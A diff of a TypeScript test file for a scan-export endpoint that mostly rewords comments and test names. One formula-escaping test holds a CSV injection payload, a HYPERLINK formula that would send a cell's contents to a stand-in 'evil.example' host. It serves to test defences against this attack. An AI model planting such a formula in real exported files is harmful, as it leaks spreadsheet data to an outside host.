@@ -23,13 +23,13 @@ const today = () => new Date().toISOString().slice(0, 10);
 const waitMs = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
 const json = async (caller = ada) => z.array(z.catchall(exportedJobSchema, z.never())).parse((await caller.call('GET', `${path}?format=json`)).body);
 
-/** The bytes as they came: `fetch` would take the mark at their beginning away. */
+/** The raw bytes: `fetch` would strip the byte order mark from text. */
 async function csvText(caller = ada): Promise<string> {
   const answer = await fetch(`${gateway.url}${path}?format=csv`, { headers: { authorization: `Bearer ${caller.accessToken}` } });
   return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer());
 }
 
-/** Cells of a CSV file, as RFC 4180 has them. */
+/** Parses a CSV file according to RFC 4180. */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [[]];
   for (const [, quoted, bare = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
@@ -46,7 +46,7 @@ async function csv(caller = ada): Promise<Record<string, string>[]> {
 
 const skill = (name: string): MatchSkill => ({ name, importance: 'required', credit: 0.5, postingQuote: aQuote(name), resumeQuote: null, via: null });
 
-/** A completed scan with a match, as a worker leaves it. */
+/** A completed scan with a match, as stored by a worker. */
 async function aCompletedScan(userId: string, overrides: Parameters<typeof aScan>[2] = {}): Promise<string> {
   const scan = await aScan(gateway.database.dataSource, userId, overrides);
   const resume = await aResume(gateway.database.dataSource, userId);
@@ -56,7 +56,7 @@ async function aCompletedScan(userId: string, overrides: Parameters<typeof aScan
   return scan.id;
 }
 
-/** Very many scans whose rows are long, some of one moment. */
+/** Thousands of scans with long texts, some with the same timestamp. */
 async function fill(userId: string, count: number): Promise<void> {
   const step = 2_000;
   for (let from = 1; from <= count; from += step) {
@@ -70,12 +70,12 @@ async function fill(userId: string, count: number): Promise<void> {
   }
 }
 
-describe('an export of scans', () => {
-  it('is a file with a name and a date, in the format that was asked for', async () => {
+describe('scan export', () => {
+  it('is a file with a name and a date, in the requested format', async () => {
     for (const [format, type] of [['csv', 'text/csv; charset=utf-8'], ['json', 'application/json; charset=utf-8']]) {
       const before = today();
       const { status, headers } = await ada.call('GET', `${path}?format=${format}`);
-      // Midnight may come in between.
+      // The test may run across midnight.
       const names = [before, today()].map((day) => `attachment; filename="rolefit-jobs-${day}.${format}"`);
       expect([status, headers.get('content-type')]).toEqual([200, type]);
       expect(names).toContain(headers.get('content-disposition'));
@@ -85,19 +85,19 @@ describe('an export of scans', () => {
     expect([head.status, head.headers.get('content-type'), head.body]).toEqual([200, 'application/json; charset=utf-8', '']);
   });
 
-  it('refuses a format that it does not have', async () => {
+  it('rejects an unknown format', async () => {
     const problem = problemOf(await ada.call('GET', `${path}?format=xml`));
     expect([problem.status, problem.error.fields]).toEqual([400, { format: 'format must be csv or json' }]);
   });
 
-  it('is an empty list, or a line of names, where there is nothing', async () => {
+  it('is an empty list, or a header line, without scans', async () => {
     expect(await json()).toEqual([]);
     const text = await csvText();
     expect(text.startsWith('\ufeff"title","companyName","url","status",')).toBe(true);
     expect(text.split('\r\n')).toHaveLength(2);
   });
 
-  it('has all that is known of each scan, newest first', async () => {
+  it('contains all fields of each scan, newest first', async () => {
     const id = await aCompletedScan(ada.user.id, { title: 'Gärtnerin, 漢字 "🌱"\u2019s', jobId: 'one' });
     await new SavedScansRepository(gateway.database.dataSource).save(ada.user.id, id, { stage: 'interview', note: 'Call Zoë,\nthen wait' });
     await aScan(gateway.database.dataSource, ada.user.id, { jobId: 'two' });
@@ -113,7 +113,7 @@ describe('an export of scans', () => {
     expect(second).toMatchObject({ title: '', status: 'queued', overallScore: '', readyToApply: '', matchSkills: '', stage: '', note: '' });
   });
 
-  it('lets nothing that a posting or a user wrote become a formula', async () => {
+  it('escapes formulas in texts of postings and users', async () => {
     const attack = '=HYPERLINK("https://evil.example?"&A1;"x")';
     const id = await aCompletedScan(ada.user.id, { title: attack, companyName: '+49 Ltd', jobId: '@SUM(A1)' });
     await new SavedScansRepository(gateway.database.dataSource).save(ada.user.id, id, { note: '-2+3' });
@@ -123,7 +123,7 @@ describe('an export of scans', () => {
     expect((await json())[0]).toMatchObject({ title: attack, companyName: '+49 Ltd' });
   });
 
-  it("never shows another user's scans", async () => {
+  it('never contains another user’s scans', async () => {
     const bob = await gateway.signIn();
     await aCompletedScan(bob.user.id);
     expect([await json(), await csv()]).toEqual([[], []]);
@@ -132,7 +132,7 @@ describe('an export of scans', () => {
 });
 
 describe('an export of very many scans', () => {
-  it('has each once, also those of one moment', async () => {
+  it('contains each scan once, also scans with the same timestamp', async () => {
     await fill(ada.user.id, 2_345);
     const jobs = await json();
     expect(new Set(jobs.map(({ jobId }) => jobId)).size).toBe(2_345);
@@ -140,14 +140,14 @@ describe('an export of very many scans', () => {
     expect(await csv()).toHaveLength(2_345);
   });
 
-  it('reads on as fast as the client does, and no further once the client is gone', async () => {
+  it('applies backpressure, and stops reading when the client disconnects', async () => {
     const count = 12_000;
     await fill(ada.user.id, count);
     const page = jest.spyOn(gateway.app.get(ScanExportRepository), 'page');
     const gone = new Promise<number>((resolve, reject) => {
       const call = request(`${gateway.url}${path}?format=json`, { headers: { authorization: `Bearer ${ada.accessToken}` } }, async (answer) => {
         answer.pause();
-        // So long nothing more is read: the buffers on the way are full.
+        // No page is read for this long: all buffers are full.
         for (let [last, since] = [0, Date.now()]; Date.now() - since < 1_500; await waitMs(20)) if (last !== page.mock.calls.length) [last, since] = [page.mock.calls.length, Date.now()];
         const read = page.mock.calls.length;
         answer.destroy();
@@ -156,7 +156,7 @@ describe('an export of very many scans', () => {
       call.on('error', reject).end();
     });
     const read = await gone;
-    // What lies in the buffers of both ends' sockets is some megabytes of fifty.
+    // Socket buffers of both sides hold a few of fifty megabytes.
     expect(read).toBeLessThan(count / 500 / 2);
     await waitMs(300);
     expect(page.mock.calls.length).toBeLessThanOrEqual(read + 1);
@@ -166,7 +166,7 @@ describe('an export of very many scans', () => {
   it.each([
     ['the account is deleted', () => new AccountsRepository(gateway.database.dataSource).delete(ada.user.id)],
     ['its session is logged out', () => new SessionsRepository(gateway.database.dataSource).endAll(ada.user.id, null)],
-  ])('breaks off, and is no whole file, when %s in between', async (_, end) => {
+  ])('aborts, and is no complete file, when %s in between', async (_, end) => {
     await fill(ada.user.id, 1_200);
     const repository = gateway.app.get(ScanExportRepository);
     const real = repository.page.bind(repository);
@@ -175,19 +175,19 @@ describe('an export of very many scans', () => {
       return real(userId, after, limit);
     });
     await expect(csvText()).rejects.toThrow();
-    // No page after the one that came too late.
+    // No page is read after the aborting one.
     expect(page.mock.calls.filter(([userId]) => userId === ada.user.id)).toHaveLength(2);
     page.mockRestore();
   });
 
-  it('breaks off, and is no whole file, when the database goes away in between; one that is away at once is told as such', async () => {
+  it('aborts, and is no complete file, when the database goes down in between, and fails before it starts when it is down already', async () => {
     await fill(ada.user.id, 1_200);
     const repository = gateway.app.get(ScanExportRepository);
     const away = Object.assign(new Error('connect'), { code: 'ECONNREFUSED' });
     const real = repository.page.bind(repository);
     const page = jest.spyOn(repository, 'page').mockImplementation((userId, after, limit) => (after === null ? real(userId, after, limit) : Promise.reject(away)));
     await expect(csvText()).rejects.toThrow();
-    // The client may hear of it first.
+    // The client may notice first.
     const isTold = () => gateway.log.some((line) => line.includes('Scan export aborted'));
     for (const giveUp = Date.now() + 120_000; !isTold() && Date.now() < giveUp; ) await waitMs(20);
     expect(isTold()).toBe(true);
